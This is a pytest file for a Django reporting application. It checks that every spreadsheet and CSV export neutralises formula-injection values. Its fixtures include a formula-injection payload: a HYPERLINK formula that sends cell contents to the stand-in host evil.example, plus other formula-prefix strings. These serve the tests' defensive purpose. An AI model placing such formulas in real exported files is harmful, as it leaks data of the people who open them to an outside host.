"""No live formula in any spreadsheet we hand out: text cells are text in .xlsx, and formula
prefixes carry an apostrophe in CSV; numbers stay numbers. Checked on the writers themselves
and on every file the application writes (form templates, dashboard table, tree export)."""

import csv
import datetime
import io
import zipfile
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.values.conftest import by_level, count, make_indicator, monthly_form  # noqa: F401
from tuyengiao.orgunits.exporting import orgunits_export
from tuyengiao.orgunits.models import OrgUnit
from tuyengiao.reporting.files import template_csv, template_xlsx
from tuyengiao.reporting.models import FormItem, FormSection
from tuyengiao.tabular.writing import XlsxSheet, csv_bytes, csv_cell, xlsx_bytes
from tuyengiao.values.models import ValueType
from tuyengiao.values.services import CellKey, datavalue_save

EVIL_NAME = '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")'
EVIL_TEXTS = (EVIL_NAME, "+1", "-2+3", "@SUM(A1:A9)", "\t=1", "\r=1")


def xlsx_cells(content: bytes) -> list:
    """Every non-empty cell of the first sheet, and no formula anywhere in the file."""
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name) and b"<f " not in archive.read(name)
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]


def csv_rows(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))


@pytest.mark.parametrize("text", EVIL_TEXTS)
def test_csv_cell_neutralises_formula_prefixes(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (-5, -5),
        (Decimal("-1.5"), Decimal("-1.5")),
        ("-5", "-5"),  # a negative number as text is a number to a spreadsheet
        ("-1.234,5", "-1.234,5"),
        ("Chi bộ 1", "Chi bộ 1"),
        (None, ""),
        (datetime.date(2025, 7, 1), "01/07/2025"),
    ],
)
def test_csv_cell_leaves_numbers_and_plain_text(value, written):
    assert csv_cell(value) == written


def test_xlsx_text_is_text_and_numbers_are_numbers():
    sheet = XlsxSheet("a/b:c")
    sheet.append([*EVIL_TEXTS, "bad\x01char", 12, Decimal("1.5"), datetime.date(2025, 7, 1)])
    cells = xlsx_cells(sheet.to_bytes())
    texts = [cell.value for cell in cells if cell.data_type == "s"]
    assert texts[:5] == list(EVIL_TEXTS[:5]) and texts[6] == "badchar"
    assert [cell.value for cell in cells if cell.data_type == "n"] == [12, 1.5]
    assert cells[-1].is_date and cells[-1].value == datetime.datetime(2025, 7, 1)


def test_csv_bytes_has_a_bom_and_inert_cells():
    content = csv_bytes([[EVIL_NAME, "+1", 3]], header=["Tên", "Ghi chú", "Số"])
    assert content.startswith(b"\xef\xbb\xbf")
    assert csv_rows(content) == [["Tên", "Ghi chú", "Số"], ["'" + EVIL_NAME, "'+1", "3"]]


def test_xlsx_bytes_header_and_rows():
    cells = xlsx_cells(xlsx_bytes([[EVIL_NAME, "+1"]], title="x", header=["a", "b"]))
    assert [(c.value, c.data_type) for c in cells] == [
        ("a", "s"), ("b", "s"), (EVIL_NAME, "s"), ("+1", "s")
    ]  # fmt: skip


# --- every file the application writes ------------------------------------------------------
@pytest.fixture
def evil(tree, owner, monthly_form):  # noqa: F811
    """Commune A named like a formula, with a text value "+1" in the monthly form."""
    OrgUnit.objects.filter(pk=tree.commune_a.pk).update(name=EVIL_NAME)
    tree.commune_a.refresh_from_db()
    note = make_indicator("T_GHI_CHU", name="Ghi chú", value_type=ValueType.TEXT)
    section = FormSection.objects.create(form=monthly_form, title="III. Ghi chú", sort_order=3)
    FormItem.objects.create(form=monthly_form, section=section, indicator=note, sort_order=1)
    period = monthly_form.current
    datavalue_save(user=owner, key=CellKey(tree.commune_a, note, period), raw="+1")
    return monthly_form


def test_form_templates_are_inert(tree, evil):
    units = [tree.commune_a]
    cells = xlsx_cells(template_xlsx(form=evil, period=evil.current, units=units))
    # One row per indicator and option: count, by_level's two options, the note.
    assert [c.data_type for c in cells if c.value == EVIL_NAME] == ["s"] * 4
    assert [c.data_type for c in cells if c.value == "+1"] == ["s"]
    rows = csv_rows(template_csv(form=evil, period=evil.current, units=units))
    assert all(row[5] == "'" + EVIL_NAME for row in rows[1:])
    assert [row[7] for row in rows if row[0] == "T_GHI_CHU"] == ["'+1"]


def test_dashboard_table_is_inert(client, province_admin, tree, count):  # noqa: F811
    OrgUnit.objects.filter(pk=tree.commune_a.pk).update(name=EVIL_NAME)
    client.force_login(province_admin)
    query = {"unit": tree.province.pk, "indicator": count.code}
    cells = xlsx_cells(client.get(reverse("dashboards:table_xlsx"), query).content)
    assert [c.data_type for c in cells if c.value == EVIL_NAME] == ["s"]


def test_tree_export_is_inert_and_reads_back(tree):
    OrgUnit.objects.filter(pk=tree.commune_a.pk).update(name=EVIL_NAME, short_name="+1")
    rows = csv_rows(orgunits_export(user=None, file_format="csv"))
    assert ["XA-AB", "'" + EVIL_NAME, "'+1"] in [row[:3] for row in rows]
    cells = xlsx_cells(orgunits_export(user=None, file_format="xlsx"))
    assert [c.data_type for c in cells if c.value in (EVIL_NAME, "+1")] == ["s", "s"]

    from tuyengiao.orgunits.importing import orgunits_import

    for fmt in ("csv", "xlsx"):
        content = orgunits_export(user=None, file_format=fmt)
        result = orgunits_import(user=None, content=content, filename=f"cay.{fmt}")
        assert result.ok and result.updated == 0, (fmt, result.errors)
